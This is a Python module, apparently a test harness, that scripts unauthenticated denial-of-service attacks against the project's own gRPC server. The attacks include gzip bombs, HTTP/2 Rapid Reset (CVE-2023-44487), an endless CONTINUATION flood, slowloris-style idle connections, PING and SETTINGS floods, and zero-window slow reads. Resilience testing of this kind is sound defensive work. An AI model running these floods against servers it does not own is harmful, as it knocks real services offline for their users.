"""What a caller without credentials can do to a server: each attack is one connection's part of it.

An attack ends when it has sent all that it has, or when the server has hung up.
"""

import asyncio
import gzip
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import suppress
from typing import Any, TypeAlias

import grpc

from router._gen import budget_router_pb2 as pb
from router.requests.limits import MAX_MESSAGE_BYTES
from tests.support import http2
from tests.support.http2 import Connection, Headers, connected

DECIDE = "/budget_router.v1.BudgetRouterService/Decide"
HEALTH_CHECK, HEALTH_WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
NO_METADATA: Headers = ()
LARGEST = MAX_MESSAGE_BYTES - 64
"""Bytes of text in a message that gRPC just takes: it refuses a larger one without a look at it."""

SECONDS = 10.0
"""How long an attack holds what it has taken."""

Attack: TypeAlias = Callable[[str], Awaitable[None]]
"""Attacks the server at HOST:PORT."""


def empty_messages(count: int = LARGEST // 2) -> bytes:
    """A Decide of so many messages without a field, and of one string that is not UTF-8."""
    return b"\x0a\x00" * count + b"\x1a\x03\xff\xfe\xfd"  # field 1, empty; field 3, three bytes


async def exploding_message(address: str, metadata: Headers = NO_METADATA, count: int = LARGEST // 2) -> None:
    """A few KB of gzip that become millions of messages."""
    async with connected(address) as connection:
        data = http2.message(gzip.compress(empty_messages(count)), compressed=True)
        begun = http2.call(1, DECIDE, [("grpc-encoding", "gzip"), *metadata])
        await connection.send(begun + http2.body(1, data))
        await _within(connection.ended(1))


async def gzip_bombs(address: str, metadata: Headers = NO_METADATA, calls: int = 60, size: int = LARGEST) -> None:
    """Many calls at once, each on its own connection, that grow a thousandfold."""
    request = pb.DecideRequest(messages=[pb.Message(role=pb.ROLE_USER, content="x" * size)])
    data = http2.message(gzip.compress(request.SerializeToString()), compressed=True)

    async def call() -> None:
        async with connected(address) as connection:
            begun = http2.call(1, DECIDE, [("grpc-encoding", "gzip"), *metadata])
            await connection.send(begun + http2.body(1, data))
            await _within(connection.ended(1))

    await asyncio.gather(*(call() for _ in range(calls)))


async def long_names(address: str, method: str = HEALTH_WATCH, calls: int = 60, size: int = LARGEST) -> None:
    """Calls of a method that needs no credentials, each with a name of many bytes."""
    request = b"\x0a" + _varint(size) + b"x" * size
    async with grpc.aio.insecure_channel(address, [("grpc.max_send_message_length", -1)]) as channel:
        watch: Any = channel.unary_stream(method)
        await _within(asyncio.gather(*(_read_all(watch(request)) for _ in range(calls))))


async def many_watches(address: str, calls: int = 1_000, connections: int = 20) -> None:
    """Watches of names that nobody serves, which are never ended."""

    async def watch(place: int) -> None:
        async with connected(address) as connection:
            for stream in range(1, 2 * calls, 2):
                name = f"nobody/{place}/{stream}".encode()
                data = http2.message(b"\x0a" + _varint(len(name)) + name)
                await connection.send(http2.call(stream, HEALTH_WATCH) + http2.body(stream, data))
            await _within(connection.ended(calls))

    await asyncio.gather(*map(watch, range(connections)))


async def reflected_files(address: str, calls: int = 100, size: int = 1 << 20, each: int = 20) -> None:
    """Calls of reflection that ask for files with long names, again and again."""
    request = b"\x1a" + _varint(size) + b"x" * size
    async with grpc.aio.insecure_channel(address, [("grpc.max_send_message_length", -1)]) as channel:

        async def requests() -> AsyncIterator[bytes]:
            for _ in range(each):
                yield request

        reflect: Any = channel.stream_stream(REFLECTION)
        await _within(asyncio.gather(*(_read_all(reflect(requests())) for _ in range(calls))))


async def rapid_reset(
    address: str, calls: int = 60_000, connections: int = 1, at_once: int = 500, method: str = DECIDE
) -> None:
    """Calls that are cancelled as soon as they have begun (CVE-2023-44487)."""
    block = http2.header_block(method)

    async def begin_and_cancel() -> None:
        async with connected(address) as connection:
            await connection.begun()  # before, the server takes a hundred calls alone
            reading = asyncio.create_task(connection.ended(calls))
            for first in range(1, 2 * calls, 2 * at_once):
                streams = range(first, first + 2 * at_once, 2)
                await connection.send(b"".join(map(one, streams)))
                if connection.closed:
                    break
            reading.cancel()

    def one(stream: int) -> bytes:
        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block) + http2.reset(stream)

    await asyncio.gather(*(begin_and_cancel() for _ in range(connections)))


async def large_metadata(address: str, calls: int = 2_000, size: int = 1 << 20) -> None:
    """Calls with as much metadata as the protocol carries, in CONTINUATION frames."""
    async with connected(address) as connection:
        for stream in range(1, 2 * calls, 2):
            await connection.send(continued(stream, size))
            if connection.closed:
                break
        await _within(connection.ended(calls))


def continued(stream: int, size: int) -> bytes:
    """A call with `size` bytes of metadata."""
    block = http2.header_block(DECIDE, [("x-padding", "x" * size)])
    pieces = [block[at : at + http2.LONGEST_FRAME] for at in range(0, len(block), http2.LONGEST_FRAME)]
    frames = [http2.frame(http2.HEADERS, http2.END_STREAM, stream, pieces[0])]
    frames += [http2.frame(http2.CONTINUATION, 0, stream, piece) for piece in pieces[1:]]
    return b"".join(frames) + http2.frame(http2.CONTINUATION, http2.END_HEADERS, stream)


async def endless_continuation(address: str, frames: int = 20_000) -> None:
    """Headers that never end (CVE-2024-27316)."""
    piece = b"".join(http2.literal(f"x-{number}", "x" * 100) for number in range(140))
    async with connected(address) as connection:
        await connection.send(http2.frame(http2.HEADERS, 0, 1, http2.header_block(DECIDE)))
        for _ in range(frames):
            await connection.send(http2.frame(http2.CONTINUATION, 0, 1, piece))
            if connection.closed:
                break


async def unfinished_messages(
    address: str, metadata: Headers = NO_METADATA, calls: int = 2_000, connections: int = 10, sent: int = 0
) -> None:
    """Calls whose message never ends: its prefix claims the largest size there is, of which `sent` bytes come."""

    async def begin() -> None:
        async with connected(address) as connection:
            begun = http2.message(b"x" * sent, length=LARGEST)
            for stream in range(1, 2 * calls, 2):
                await connection.send(http2.call(stream, DECIDE, metadata) + http2.body(stream, begun, end=False))
            await _within(connection.ended(calls))

    await asyncio.gather(*(begin() for _ in range(connections)))


async def silent_connections(address: str, connections: int = 5_000, preface: bool = False) -> None:
    """Connections that send nothing, or begin HTTP/2 and send nothing more."""
    host, _, port = address.rpartition(":")
    writers = []
    for _ in range(connections):
        with suppress(OSError):
            _, writer = await asyncio.open_connection(host, int(port))
            if preface:
                writer.write(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
            writers.append(writer)
    await asyncio.sleep(SECONDS)
    for writer in writers:
        writer.close()


async def pings(address: str, frames: int = 500_000) -> None:
    """Pings whose answers are never read."""
    async with connected(address) as connection:
        await _within(_repeated(connection, http2.frame(http2.PING, 0, 0, b"12345678"), frames))


async def settings(address: str, frames: int = 500_000) -> None:
    """Settings whose answers are never read."""
    async with connected(address) as connection:
        await _within(_repeated(connection, http2.frame(http2.SETTINGS, 0, 0), frames))


async def slow_reader(
    address: str, metadata: Headers = NO_METADATA, calls: int = 1_000, prompt: str = "2 + 2 ="
) -> None:
    """Calls whose replies are never taken: the window of every stream is empty."""
    request = pb.DecideRequest(messages=[pb.Message(role=pb.ROLE_USER, content=prompt)])
    data = http2.message(request.SerializeToString())
    async with connected(address, window=0) as connection:
        for stream in range(1, 2 * calls, 2):
            await connection.send(http2.call(stream, DECIDE, metadata) + http2.body(stream, data))
        await _within(connection.ended(calls))


UNAUTHENTICATED: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        exploding_message,
        gzip_bombs,
        long_names,
        many_watches,
        reflected_files,
        rapid_reset,
        large_metadata,
        endless_continuation,
        unfinished_messages,
        silent_connections,
        pings,
        settings,
        slow_reader,
    )
}
"""Attacks that need no credentials, by name."""


async def _read_all(started: Any) -> None:
    with suppress(grpc.aio.AioRpcError):
        async for _ in started:
            pass


async def _repeated(connection: Connection, data: bytes, times: int, together: int = 1_000) -> None:
    for _ in range(0, times, together):
        await connection.send(data * together)
        if connection.closed:
            break


async def _within(work: Awaitable[object], seconds: float = SECONDS) -> None:
    with suppress(TimeoutError):
        await asyncio.wait_for(work, seconds)


def _varint(value: int) -> bytes:
    encoded = bytearray()
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes([*encoded, value])
